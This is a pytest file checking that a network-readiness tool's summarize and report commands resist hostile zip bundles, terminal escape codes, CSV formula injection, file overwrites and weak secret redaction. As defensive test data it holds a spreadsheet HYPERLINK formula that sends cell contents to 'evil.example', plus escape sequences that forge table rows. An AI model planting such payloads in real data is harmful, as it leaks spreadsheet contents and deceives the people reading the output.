"""Issue 14, reports: hostile bundles cost one refusal line, never the batch; outside strings never reach a terminal
or a spreadsheet raw; no stranger's file is overwritten; the redactor survives short and undecodable secrets."""

from __future__ import annotations

import dataclasses
import io
import json
import os
import zipfile
from pathlib import Path

import pytest

from app import cli
from app.engine.model import Category, Status
from app.engine.options import RunOptions, TurnCredentials
from app.engine.profile import load_profile
from app.engine.urls import parse_ice_url
from app.report.bundle import MANIFEST, Bundle, build_bundle, pack
from app.report.redact import SECRET_MARK
from app.report.schema import schema_errors
from app.report.summarize import render_table, summarize, write_csv
from tests.unit.report_fakes import MIXED, fleet_bundle, run_result

FAKE_PDF = lambda html, title: b"%PDF-1.4 fake\n"  # noqa: E731


@pytest.fixture(scope="module")
def base() -> Bundle:
    rows = [(*r[:2], Status.PASS, "ok", {}, ()) if r[0] is Category.STUN else r for r in MIXED]
    facts = {"os": {"system": "Linux", "release": "6"}, "hostname": "pc-0", "interfaces": []}
    return build_bundle(run_result(rows), load_profile("flo-recruit"), RunOptions(), "log\n", False, facts=facts,
                        make_pdf=FAKE_PDF)  # fmt: skip


def _variant(base: Bundle, report: object = None, system: object = None, raw_report: bytes | None = None) -> bytes:
    """A bundle with a consistent manifest around a (hostile) report.json or system.json."""
    files = dict(base.files)
    if report is not None or raw_report is not None:
        files["report.json"] = raw_report if raw_report is not None else json.dumps(report).encode()
    if system is not None:
        files["system.json"] = json.dumps(system).encode()
    return pack(dataclasses.replace(base, files=files))


def _deep(n: int) -> str:
    return "[" * n + "]" * n


def _fleet_with(tmp_path: Path, base: Bundle, bad: dict[str, bytes]) -> Path:
    folder = tmp_path / "fleet"
    folder.mkdir()
    (folder / "good.zip").write_bytes(fleet_bundle(base, "pc-good"))
    for name, data in bad.items():
        (folder / name).write_bytes(data)
    return folder


def test_one_hostile_bundle_costs_one_line_not_the_batch(base: Bundle, tmp_path: Path) -> None:
    report = json.loads(base.files["report.json"])
    deep_report = json.dumps(report)[:-1] + ', "x": ' + _deep(5000) + "}"
    deep_manifest = io.BytesIO()
    with zipfile.ZipFile(deep_manifest, "w") as zf:
        zf.writestr("report.json", base.files["report.json"])
        zf.writestr(MANIFEST, '{"format": "callready-bundle", "files": ' + _deep(5000)[:-1] + "}")
    bad = {
        "deep-report.zip": _variant(base, raw_report=deep_report.encode()),
        "deep-system.zip": _variant(base, system={"os": json.loads(_deep(900))}),
        "deep-manifest.zip": deep_manifest.getvalue(),
        "tool-x.zip": _variant(base, {**report, "tool": "x"}),
        "huge-number.zip": _variant(base, raw_report=json.dumps(report).replace('"schema_version": 1', '"schema_version": ' + "9" * 5000).encode()),
    }  # fmt: skip
    s = summarize([_fleet_with(tmp_path, base, bad)])
    assert [m.label for m in s.machines] == ["pc-good"]
    refused = {Path(p).name: why for p, why in s.refused}
    assert set(refused) == set(bad), refused
    assert all("\n" not in why for why in refused.values())
    assert "not a CallReady bundle" in refused["tool-x.zip"]


def test_cli_summarize_keeps_the_batch_when_one_bundle_is_hostile(base: Bundle, tmp_path: Path, capsys) -> None:
    report = json.loads(base.files["report.json"])
    folder = _fleet_with(tmp_path, base, {"tool-x.zip": _variant(base, {**report, "tool": "x"})})
    assert cli.main(["summarize", str(folder)]) == 0
    out = capsys.readouterr()
    assert "pc-good" in out.out and out.err.count("\n") == 1 and "tool-x.zip" in out.err


@pytest.mark.timeout(30)
def test_fifo_and_device_named_zip_are_refused_without_reading(tmp_path: Path) -> None:
    fifo = tmp_path / "pipe.zip"
    os.mkfifo(fifo)
    s = summarize([fifo, Path("/dev/zero")])  # before: blocked for good on the FIFO; /dev/zero filled memory
    assert s.machines == ()
    assert [why for _p, why in s.refused] == ["cannot read: not a regular file"] * 2


def test_duplicate_entries_are_refused(base: Bundle, tmp_path: Path) -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(pack(base))) as src, zipfile.ZipFile(buf, "w") as out:
        for info in src.infolist():
            out.writestr(info.filename, src.read(info))
        with pytest.warns(UserWarning, match="Duplicate name"):
            out.writestr("report.json", b'{"forged": true}')
    s = summarize([_write(tmp_path / "dup.zip", buf.getvalue())])
    assert s.machines == () and "appears twice" in s.refused[0][1]


def _write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


def test_escape_codes_and_newlines_never_reach_the_terminal(base: Bundle, tmp_path: Path) -> None:
    report = json.loads(base.files["report.json"])
    report["profile"]["id"] = "flo\x1b[2J\x1b[31m"
    report["findings"][0]["severity"] = "error"
    report["findings"][0]["title"] = "fake\nrow-pc  ready\x1b]0;owned\x07"
    data = _variant(base, report, {"hostname": "evil\x1b[1A\rpc-9\nforged-row", "os": {}})
    s = summarize([_write(tmp_path / "e.zip", data)])
    assert not s.refused, s.refused
    table = render_table(s)
    assert "\x1b" not in table and "\r" not in table and "\x07" not in table
    assert "forged-row" in table and not any(line.startswith("forged-row") for line in table.splitlines())


def test_csv_cells_cannot_be_formulas(base: Bundle, tmp_path: Path) -> None:
    data = _variant(base, system={"hostname": '=HYPERLINK("http://evil.example/?"&A1,"click")', "os": {}})
    s = summarize([_write(tmp_path / "f.zip", data)])
    buf = io.StringIO()
    write_csv(s, buf)
    cell = buf.getvalue().splitlines()[1].split(",")[0]
    assert cell.startswith("\"'=HYPERLINK") or cell.startswith("'=HYPERLINK"), cell


def test_summarize_csv_and_html_never_replace_a_strangers_file(base: Bundle, tmp_path: Path, capsys) -> None:
    bundle = _write(tmp_path / "b.zip", fleet_bundle(base, "pc-1"))
    theirs = _write(tmp_path / "budget.csv", b"quarter,amount\nQ1,100\n")
    assert cli.main(["summarize", str(bundle), "--csv", str(theirs)]) == cli.EXIT_USAGE
    assert theirs.read_bytes() == b"quarter,amount\nQ1,100\n"
    assert "already exists" in capsys.readouterr().err
    ours = tmp_path / "fleet.csv"
    assert cli.main(["summarize", str(bundle), "--csv", str(ours)]) == 0
    assert cli.main(["summarize", str(bundle), "--csv", str(ours)]) == 0  # our own output may be rewritten
    page = _write(tmp_path / "index.html", b"<html>their page</html>")
    assert cli.main(["summarize", str(bundle), "--html", str(page)]) == cli.EXIT_USAGE
    assert page.read_bytes() == b"<html>their page</html>"


# ---------------------------------------------------------------- redactor


@pytest.mark.parametrize("secret", ["check", "e", "udp", "pass", "2024", "\udcff\udcfe-raw-bytes"])
def test_short_and_undecodable_secrets_give_a_valid_redacted_bundle(secret: str) -> None:
    turn = TurnCredentials(parse_ice_url("turn:turn.example:3478"), "user", secret)
    options = RunOptions(timeout_s=5, turn=(turn,))
    result = run_result(options=options)
    bundle = build_bundle(result, load_profile("flo-recruit"), options, f"log password={secret}\n", False,
                          facts={"hostname": "pc", "note": f"pw {secret}"}, make_pdf=FAKE_PDF)  # fmt: skip
    report = json.loads(bundle.files["report.json"])
    assert schema_errors(report) == [], "redaction broke the bundle's own schema"
    assert set(report) == set(json.loads(json.dumps(result.to_json()))), "keys must stay as they are"
    log_text = bundle.files["log.txt"].decode()
    assert secret not in log_text and log_text.endswith(f"={SECRET_MARK}\n")
    assert json.loads(bundle.files["system.json"])["note"] == f"pw {SECRET_MARK}"


def test_check_output_neutralises_profile_and_server_text() -> None:
    """`callready check` prints profile names, targets and server-given summaries: never raw escapes or newlines."""
    from app.cli import render_text

    rows = [
        (Category.HTTPS, "web\x1b[2J.example", Status.WARN, "Reached, server said \x1b]0;owned\x07\nPASS fake", {}, ())
    ]
    profile = dataclasses.replace(load_profile("flo-recruit"), name="Flo\x1b[31m", id="flo\nrecruit")
    result = run_result(rows, profile=profile)
    out = io.StringIO()
    render_text(result, out)
    text = out.getvalue()
    assert "\x1b" not in text and "\x07" not in text
    assert not any(line.startswith("PASS fake") for line in text.splitlines())
